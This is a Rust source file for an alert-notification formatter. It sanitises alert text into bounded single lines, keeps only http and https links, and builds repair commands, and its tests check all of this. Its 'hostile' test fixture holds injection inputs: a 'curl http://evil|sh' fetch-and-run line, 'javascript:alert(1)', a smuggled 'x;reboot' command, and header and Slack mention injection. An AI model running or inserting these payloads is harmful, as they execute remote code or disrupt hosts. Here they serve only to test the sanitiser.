//! What people are told, before it takes the form of Slack or mail: what broke, where, since when, and what repairs it.
//!
//! Everything here is plain text of one line each, of bounded length, with nothing left that could break out of a line.

use jiff::Timestamp;

use crate::{
    alert::{Alert, Pairs},
    core::{Notification, Status},
    repair::RepairCommands,
};

/// Alerts that are described; of the others there is a number.
const MAX_ITEMS: usize = 10;
/// Characters of a text; of a label.
const MAX_TEXT: usize = 1000;
const MAX_LABEL: usize = 200;
/// Labels that say where something is, in the order in which people look for them.
const PLACES: [&str; 8] = [
    "instance",
    "instance_id",
    "role",
    "zone",
    "job",
    "cluster",
    "environment",
    "name",
];

/// A message.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Message {
    pub(crate) status: Status,
    /// `[FIRING:2] AgentDown on node-1`.
    pub(crate) title: String,
    /// The worst of the firing alerts; empty when none says.
    pub(crate) severity: String,
    pub(crate) items: Vec<Item>,
    /// Alerts that are not among the items.
    pub(crate) more: usize,
}

/// An alert.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Item {
    pub(crate) status: Status,
    pub(crate) name: String,
    pub(crate) severity: String,
    /// Names and values of labels that say where.
    pub(crate) place: Vec<(String, String)>,
    pub(crate) since: String,
    /// When it ended; empty while it fires.
    pub(crate) until: String,
    pub(crate) summary: String,
    pub(crate) description: String,
    /// What the link says, and a URL of http or https.
    pub(crate) links: Vec<(&'static str, String)>,
    /// The line to paste.
    pub(crate) command: Option<String>,
}

impl Message {
    pub(crate) fn new(told: &Notification, commands: &RepairCommands) -> Self {
        let firing = told
            .alerts
            .iter()
            .filter(|(_, _, status)| *status == Status::Firing)
            .count();
        let status = if firing > 0 {
            Status::Firing
        } else {
            Status::Resolved
        };
        // What fires comes before what is over, and is described when not all are.
        let mut alerts: Vec<_> = told.alerts.iter().collect();
        alerts.sort_by_key(|it| it.2);
        let items = alerts.into_iter().take(MAX_ITEMS);
        let items = items
            .map(|(_, alert, status)| Item::new(alert, *status, commands))
            .collect();
        let severities = told.alerts.iter().filter(|it| it.2 == status);
        let severities = severities.filter_map(|(_, alert, _)| alert.labels.get("severity"));
        let severity = severities
            .max_by_key(|it| rank(it))
            .map_or("", String::as_str);
        Self {
            status,
            title: title(told, status, firing),
            severity: line(severity, MAX_LABEL),
            items,
            more: told.alerts.len().saturating_sub(MAX_ITEMS),
        }
    }
}

impl Item {
    fn new(alert: &Alert, status: Status, commands: &RepairCommands) -> Self {
        let annotation = |name: &str| alert.annotations.get(name).map_or("", String::as_str);
        let label = |name: &str| alert.labels.get(name).map_or("", String::as_str);
        let places = PLACES.iter().filter(|it| !label(it).is_empty());
        let links = [
            ("Runbook", annotation("runbook_url")),
            ("Dashboard", annotation("dashboard")),
            ("Prometheus", alert.generator_url.as_str()),
        ];
        let resolved = status == Status::Resolved;
        Self {
            status,
            name: line(alert.name(), MAX_LABEL),
            severity: line(label("severity"), MAX_LABEL),
            place: places
                .map(|it| ((*it).to_owned(), line(label(it), MAX_LABEL)))
                .collect(),
            since: time(alert.starts_at),
            until: if resolved {
                time(alert.ends_at)
            } else {
                String::new()
            },
            summary: line(annotation("summary"), MAX_TEXT),
            description: line(annotation("description"), MAX_TEXT),
            links: links
                .into_iter()
                .filter_map(|(text, url)| Some((text, link(url)?)))
                .collect(),
            // What is over needs no repair.
            command: if resolved {
                None
            } else {
                commands.line(annotation("repair"), &alert.labels)
            },
        }
    }
}

/// Higher is worse.
fn rank(severity: &str) -> u8 {
    match severity {
        "critical" => 3,
        "warning" => 2,
        "info" => 1,
        _ => 0,
    }
}

/// `[FIRING:2] AgentDown on node-1`: all names when they are few, the place when it is one.
fn title(told: &Notification, status: Status, firing: usize) -> String {
    let mut names: Vec<&str> = told
        .alerts
        .iter()
        .map(|(_, alert, _)| alert.name())
        .filter(|it| !it.is_empty())
        .collect();
    names.sort_unstable();
    names.dedup();
    let more = names.len().saturating_sub(3);
    names.truncate(3);
    let mut text = match status {
        Status::Firing => format!("[FIRING:{firing}] "),
        Status::Resolved => "[RESOLVED] ".to_owned(),
    };
    text.push_str(&names.join(", "));
    if names.is_empty() {
        let labels: Pairs = told.group_labels.clone();
        let labels: Vec<_> = labels
            .iter()
            .map(|(name, value)| format!("{name}={value}"))
            .collect();
        text.push_str(if labels.is_empty() { "alerts" } else { "" });
        text.push_str(&labels.join(" "));
    }
    if more > 0 {
        text.push_str(&format!(" and {more} more"));
    }
    let mut places = told
        .alerts
        .iter()
        .map(|(_, alert, _)| alert.labels.get("instance"));
    if let Some(Some(first)) = places.next()
        && places.all(|it| it == Some(first))
    {
        text.push_str(&format!(" on {first}"));
    }
    line(&text, MAX_LABEL)
}

/// One line of at most `max` characters: whatever controls or breaks lines becomes a space.
pub(super) fn line(text: &str, max: usize) -> String {
    let breaks = |it: char| {
        it.is_control()
            || matches!(it, '\u{2028}' | '\u{2029}')
            // Marks that turn the direction of text around.
            || matches!(it, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    let mut out = String::new();
    let mut count = 0;
    for word in text
        .split(|it: char| breaks(it) || it == ' ')
        .filter(|it| !it.is_empty())
    {
        if count > 0 {
            out.push(' ');
            count += 1;
        }
        for character in word.chars() {
            if count + 1 >= max {
                out.push('…');
                return out;
            }
            out.push(character);
            count += 1;
        }
    }
    out
}

/// A URL that a person may click: http or https, written so that nothing in it ends a link.
fn link(url: &str) -> Option<String> {
    const MAX: usize = 2000;
    let url = client::Url::parse(url).ok()?;
    let wanted = matches!(url.scheme(), "http" | "https") && url.has_host();
    let text = url.to_string();
    let text = text
        .replace('|', "%7C")
        .replace('\'', "%27")
        .replace('`', "%60");
    (wanted && text.len() <= MAX && !text.contains(['<', '>', '"', ' '])).then_some(text)
}

/// `2026-11-24 10:13:05 UTC`.
fn time(time: Timestamp) -> String {
    time.strftime("%Y-%m-%d %H:%M:%S UTC").to_string()
}

#[cfg(test)]
pub(super) mod tests {
    use std::sync::Arc;

    use super::{Message, line, link};
    use crate::{
        alert::{Alert, Pairs},
        config::{Integration, Kind, WebhookSettings},
        core::{Notification, Status},
        repair::RepairCommands,
    };

    pub(crate) fn pairs<const N: usize>(pairs: [(&str, &str); N]) -> Pairs {
        pairs
            .map(|(name, value)| (name.to_owned(), value.to_owned()))
            .into()
    }

    fn alert(labels: Pairs, annotations: Pairs, status: Status) -> Alert {
        Alert {
            labels,
            annotations,
            starts_at: "2026-01-02T03:04:05Z".parse().unwrap(),
            ends_at: if status == Status::Resolved {
                "2026-01-02T04:00:00Z"
            } else {
                "2026-01-03T00:00:00Z"
            }
            .parse()
            .unwrap(),
            generator_url: "http://prometheus.example:9090/graph?g0.expr=up&g0.tab=1".to_owned(),
        }
    }

    pub(crate) fn commands() -> RepairCommands {
        RepairCommands::new(pairs([("start", "provisioner local start {program}")])).unwrap()
    }

    /// What the goldens of all forms are made from, by name.
    pub(crate) fn notifications() -> Vec<(&'static str, Notification)> {
        let good = alert(
            pairs([
                ("alertname", "AgentDown"),
                ("severity", "critical"),
                ("instance", "node-1"),
                ("instance_id", "i-0abc"),
                ("role", "cassandra"),
                ("zone", "a"),
                ("program", "node-exporter"),
            ]),
            pairs([
                ("summary", "node-exporter on node-1 does not answer"),
                ("description", "It has not been scraped for 30 s."),
                ("runbook_url", "https://example.com/runbooks/AgentDown"),
                (
                    "dashboard",
                    "https://grafana.example/d/x?var-instance=node-1",
                ),
                ("repair", "start node-exporter"),
            ]),
            Status::Firing,
        );
        let resolved = Alert {
            ends_at: "2026-01-02T04:00:00Z".parse().unwrap(),
            ..good.clone()
        };
        let evil = "<!channel> <b>x</b> `y` *z* & \"q\" 'r'\r\nBcc: a@b\n<https://evil|ok> \u{202e}x; curl http://evil|sh";
        let hostile = alert(
            pairs([
                ("alertname", evil),
                ("severity", evil),
                ("instance", evil),
                ("role", "x; curl …|sh"),
            ]),
            pairs([
                ("summary", evil),
                ("description", evil),
                ("runbook_url", "javascript:alert(1)"),
                ("dashboard", "https://x/|<!channel>\"'`"),
                ("repair", "start x;reboot"),
            ]),
            Status::Firing,
        );
        let long = "x".repeat(10_000);
        let huge = alert(
            pairs([("alertname", &long), ("instance", &long)]),
            pairs([("summary", &long), ("description", &long)]),
            Status::Firing,
        );
        let bare = alert(pairs([("service", "api")]), Pairs::new(), Status::Firing);
        let many = |count: usize| -> Vec<Alert> {
            (0..count)
                .map(|it| {
                    alert(
                        pairs([
                            ("alertname", "HostCpuHigh"),
                            ("severity", "warning"),
                            ("instance", &format!("node-{it:02}")),
                        ]),
                        pairs([("summary", "busy")]),
                        Status::Firing,
                    )
                })
                .collect()
        };
        [
            ("firing", vec![good.clone()]),
            ("resolved", vec![resolved.clone()]),
            ("both", [vec![good], many(1), vec![resolved]].concat()),
            ("hostile", vec![hostile]),
            ("huge", vec![huge]),
            ("bare", vec![bare]),
            ("many", many(37)),
        ]
        .into_iter()
        .map(|(name, alerts)| {
            let now = "2026-01-02T05:00:00Z".parse().unwrap();
            let alerts = alerts
                .into_iter()
                .map(|it| {
                    let status = crate::core::status_of(it.ends_at <= now);
                    (crate::alert::Fingerprint::of(&it.labels), it, status)
                })
                .collect();
            let integration = Integration {
                receiver: "team".to_owned(),
                index: 0,
                send_resolved: true,
                kind: Kind::Webhook(WebhookSettings {
                    max_alerts: 0,
                    ..WebhookSettings::default()
                }),
            };
            let told = Notification {
                id: 1,
                integration: Arc::new(integration),
                group_key: "{}:{alertname=\"AgentDown\"}".to_owned(),
                group_labels: pairs([("alertname", "AgentDown")]),
                alerts,
                attempt: 1,
                route_labels: Pairs::new(),
                reason: "",
                memory: std::collections::BTreeMap::new(),
            };
            (name, told)
        })
        .collect()
    }

    #[test]
    fn titles() {
        let found: Vec<_> = notifications()
            .iter()
            .map(|(name, told)| {
                format!(
                    "{name}: {}",
                    Message::new(told, &commands())
                        .title
                        .chars()
                        .take(100)
                        .collect::<String>()
                )
            })
            .collect();
        let expect = [
            "firing: [FIRING:1] AgentDown on node-1",
            "resolved: [RESOLVED] AgentDown on node-1",
            "both: [FIRING:2] AgentDown, HostCpuHigh",
            "hostile: [FIRING:1] <!channel> <b>x</b> `y` *z* & \"q\" 'r' Bcc: a@b <https://evil|ok> x; curl http://evil|sh o",
        ];
        assert_eq!(found[..4], expect);
        assert_eq!(found[5], "bare: [FIRING:1] alertname=AgentDown");
        assert_eq!(found[6], "many: [FIRING:37] HostCpuHigh");
    }

    #[test]
    fn lines() {
        for (text, max, expect) in [
            ("a\nb\r\n c\u{0}d", 100, "a b c d"),
            ("  ", 100, ""),
            ("abcdef", 4, "abc…"),
            ("é é é", 5, "é é …"),
            ("a\u{2028}b\u{202e}c", 100, "a b c"),
        ] {
            assert_eq!(line(text, max), expect);
        }
    }

    #[test]
    fn links() {
        for (url, expect) in [
            (
                "https://a.example/x?y=1#z",
                Some("https://a.example/x?y=1#z"),
            ),
            ("http://a/|b'c`", Some("http://a/%7Cb%27c%60")),
            ("http://a/<b>\"", Some("http://a/%3Cb%3E%22")),
            ("javascript:alert(1)", None),
            ("data:text/html,x", None),
            ("//a/b", None),
            ("", None),
        ] {
            assert_eq!(link(url).as_deref(), expect, "{url}");
        }
    }
}
